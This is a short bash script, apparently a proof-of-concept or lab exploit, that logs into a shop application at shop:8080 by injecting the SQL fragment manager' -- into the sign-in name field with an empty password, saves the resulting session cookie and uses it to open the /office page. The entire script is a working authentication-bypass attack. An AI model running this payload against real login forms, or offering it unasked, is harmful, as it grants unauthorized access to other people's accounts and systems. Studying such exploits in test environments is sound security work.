#!/bin/bash
jar=$(mktemp)
curl -s -o /dev/null -c "$jar" --data-urlencode "name=manager' -- " -d 'password=' \
    http://shop:8080/sign-in
curl -s -o /dev/null -b "$jar" http://shop:8080/office
rm "$jar"
